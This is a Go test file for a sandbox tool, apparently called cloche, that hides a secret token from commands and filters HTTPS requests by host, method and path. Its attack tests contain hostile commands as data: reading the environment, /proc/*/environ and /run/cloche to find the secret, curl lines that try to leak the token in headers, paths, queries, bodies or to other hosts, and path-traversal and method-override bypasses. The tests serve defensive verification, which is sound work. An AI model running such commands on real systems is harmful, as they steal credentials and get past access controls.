package clients

import (
	"encoding/base64"
	"io/fs"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/cloche-dev/cloche/internal/testenv"
	"github.com/cloche-dev/cloche/internal/testnet"
)

// token is the value of a secret. No command may see it.
const token = "ghp_Zq8xW2vN5tR7yU3iO9pA1sD4fG6hJ0kL2mQe"

// inspecting returns the sandbox with a command line that looks inside TLS, and the secret in its environment.
func (s *sandbox) inspecting(flags ...string) *sandbox {
	own := s.with(flags...)
	// The last of two equal variables counts.
	own.env = []string{roleVariable + "=" + roleHTTPS, "SSL_CERT_FILE=" + testnet.AuthorityFile(), "SERVICE_TOKEN=" + token}
	return own
}

// authorized returns what servers got at /token since the last call with the same memory.
func authorized(t *testing.T, seen *int) []string {
	t.Helper()
	log, err := testnet.Seen()
	if err != nil {
		t.Fatal(err)
	}
	list := log.Authorized[*seen:]
	*seen = len(log.Authorized)
	return list
}

// N14: programs use a secret that they cannot read. The server gets the value, and what it answers has the placeholder.
func TestSecrets(t *testing.T) {
	eachBackend(t, func(t *testing.T, s *sandbox) {
		testenv.Need(t, "curl", "node", "/usr/bin/python3", "git")
		s = s.inspecting("--secret", "SERVICE_TOKEN@api.good.example", "--env", "GIT_TERMINAL_PROMPT=0")
		const url = "https://api.good.example/token"
		basic := "Basic " + base64.StdEncoding.EncodeToString([]byte("me:"+token))
		clients := []struct {
			name, want string
			argv       []string
		}{
			{"curl", "Bearer " + token, []string{"sh", "-c", `curl -sS --fail --max-time 120 -H "Authorization: Bearer $SERVICE_TOKEN" ` + url}},
			{"curl HTTP/1.1", "token " + token, []string{"sh", "-c", `curl -sS --http1.1 --fail --max-time 120 -H "Authorization: token $SERVICE_TOKEN" ` + url}},
			{"curl basic", basic, []string{"sh", "-c", `curl -sS --fail --max-time 120 -u "me:$SERVICE_TOKEN" ` + url}},
			{"python", "Bearer " + token, []string{"/usr/bin/python3", "-c", `import os, urllib.request as u
print(u.urlopen(u.Request("` + url + `", headers={"Authorization": "Bearer " + os.environ["SERVICE_TOKEN"]}), timeout=120).read().decode())`}},
			{"node", "Bearer " + token, []string{"node", "-e", `fetch("` + url + `", {headers: {Authorization: "Bearer " + process.env.SERVICE_TOKEN}}).then(r => r.text()).then(console.log)`}},
		}
		seen := 0
		authorized(t, &seen)
		for _, c := range clients {
			o := s.run(t, c.argv...)
			got := authorized(t, &seen)
			if o.status != 0 || !slices.Equal(got, []string{c.want}) {
				t.Errorf("%s: status %d, the server got %q, want %q\n%s%s", c.name, o.status, got, c.want, o.stdout, o.stderr)
			}
			if !strings.Contains(o.stdout, "you sent ") {
				t.Errorf("%s: no answer: %q", c.name, o.stdout)
			}
			notIn(t, c.name, o, s)
		}
	})
}

// notIn looks for the token, in the forms that a server could send back, in everything that a run has left.
func notIn(t *testing.T, what string, o *outcome, s *sandbox) {
	t.Helper()
	forms := []string{token, base64.StdEncoding.EncodeToString([]byte("me:" + token))}
	check := func(where, text string) {
		for _, f := range forms {
			if strings.Contains(text, f) {
				t.Errorf("%s: the value is in %s", what, where)
			}
		}
	}
	check("the standard output", o.stdout)
	check("the standard error", o.stderr)
	for _, dir := range []string{s.home, s.workspace} {
		err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
			if err == nil && d.Type().IsRegular() {
				text, _ := os.ReadFile(path)
				check(path, string(text))
			}
			return nil
		})
		if err != nil {
			t.Error(err)
		}
	}
}

// N14: a command cannot read the value, or send it anywhere but to its hosts.
func TestSecretAttacks(t *testing.T) {
	eachBackend(t, func(t *testing.T, s *sandbox) {
		testenv.Need(t, "curl")
		s = s.inspecting("--secret", "SERVICE_TOKEN@api.good.example", "--allow", "https://good.example", "--allow", "other.example:443")
		seen := 0
		authorized(t, &seen)
		look := s.run(t, "sh", "-c", `env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr "\0" "\n"; cat /run/cloche/* /run/cloche/*/* 2>/dev/null; true`)
		notIn(t, "the environment", look, s)
		if !strings.Contains(look.stdout, "SERVICE_TOKEN=ghp_") {
			t.Errorf("no placeholder with the prefix of the value: %s", look.stdout)
		}
		curl := `curl -sS -o /dev/null -w "%{http_code}" --max-time 120 `
		for name, line := range map[string]string{
			"another inspected host": curl + `-H "Authorization: Bearer $SERVICE_TOKEN" https://good.example/token`,
			"another field":          curl + `-H "X-Key: $SERVICE_TOKEN" https://api.good.example/token`,
			"the path":               curl + `"https://api.good.example/token/$SERVICE_TOKEN"`,
			"the query":              curl + `"https://api.good.example/token?t=$SERVICE_TOKEN"`,
			"a body":                 curl + `-d "text=$SERVICE_TOKEN" https://api.good.example/token`,
			"another host in HTTP":   curl + `-H "Host: good.example" -H "Authorization: Bearer $SERVICE_TOKEN" https://api.good.example/token`,
		} {
			o := s.run(t, "sh", "-c", line)
			if got := authorized(t, &seen); len(got) > 0 {
				t.Errorf("%s: the server got %q", name, got)
			}
			if !slices.Contains([]string{"403", "421", "000"}, o.stdout) {
				t.Errorf("%s: %q %s", name, o.stdout, o.stderr)
			}
			if len(o.report.Result.Denied) == 0 {
				t.Errorf("%s: no denial is recorded: %s", name, o.stderr)
			}
			notIn(t, name, o, s)
		}
		// A host that is not inspected gets the placeholder, which is worth nothing.
		o := s.run(t, "sh", "-c", `curl -sS --max-time 120 --cacert `+testnet.AuthorityFile()+` -H "Authorization: Bearer $SERVICE_TOKEN" https://other.example/token`)
		got := authorized(t, &seen)
		if o.status != 0 || len(got) != 1 || strings.Contains(got[0], token) || !strings.HasPrefix(got[0], "Bearer ghp_") {
			t.Errorf("a host that is not inspected: status %d, %q %s", o.status, got, o.stderr)
		}
		notIn(t, "a host that is not inspected", o, s)
	})
}

// N16: requests of HTTPS are judged by method and path, for hosts that a rule names. TLS with others stays end-to-end.
func TestHTTPSRules(t *testing.T) {
	eachBackend(t, func(t *testing.T, s *sandbox) {
		testenv.Need(t, "curl", "git")
		s = s.inspecting("--allow", "GET,HEAD https://good.example/v1/**", "--allow", "other.example:443")
		get := func(args ...string) *outcome {
			return s.run(t, append([]string{"curl", "-sS", "--max-time", "120"}, args...)...)
		}
		for _, version := range []string{"--http1.1", "--http2"} {
			if o := get(version, "https://good.example/v1/x"); o.status != 0 || o.stdout != "GET good.example/v1/x 0 bytes\n" {
				t.Errorf("%s, allowed: %d %q %s", version, o.status, o.stdout, o.stderr)
			}
			for name, args := range map[string][]string{
				"method": {"-d", "x", "https://good.example/v1/x"},
				"path":   {"https://good.example/v2/x"},
				"dots":   {"--path-as-is", "https://good.example/v1/../v2/x"},
				"coded":  {"--path-as-is", "https://good.example/v1/%2e%2e/v2/x"},
				"field":  {"-H", "X-HTTP-Method-Override: DELETE", "https://good.example/v1/x"},
			} {
				o := get(append([]string{version, "-w", " %{http_code}"}, args...)...)
				if !strings.HasSuffix(o.stdout, " 403") || !strings.Contains(o.stdout, `"error":"denied by cloche"`) {
					t.Errorf("%s, %s: %q %s", version, name, o.stdout, o.stderr)
				}
				if len(o.report.Result.Denied) != 1 {
					t.Errorf("%s, %s: %d denials", version, name, len(o.report.Result.Denied))
				}
			}
		}
		denied := get("-d", "x", "https://good.example/v1/x").report.Result.Denied
		if len(denied) != 1 || denied[0].Op != "request" || denied[0].Protocol != "https" || denied[0].Method != http.MethodPost || denied[0].Path != "/v1/x" {
			t.Errorf("the denial: %+v", denied)
		}
		if o := s.with("--allow", "https://api.good.example").run(t, "git", "ls-remote", "https://api.good.example/git/repository"); o.status != 0 || !strings.Contains(o.stdout, "HEAD") {
			t.Errorf("git: %d %q %s", o.status, o.stdout, o.stderr)
		}
		if o := get("--cacert", testnet.AuthorityFile(), "https://other.example/x"); o.status != 0 {
			t.Errorf("TLS with another host is not end-to-end: %s", o.stderr)
		}
		if o := get("http://good.example/v1/x"); !strings.Contains(o.stdout, "denied by cloche") {
			t.Errorf("plain HTTP passed: %s", o.stdout)
		}
	})
}
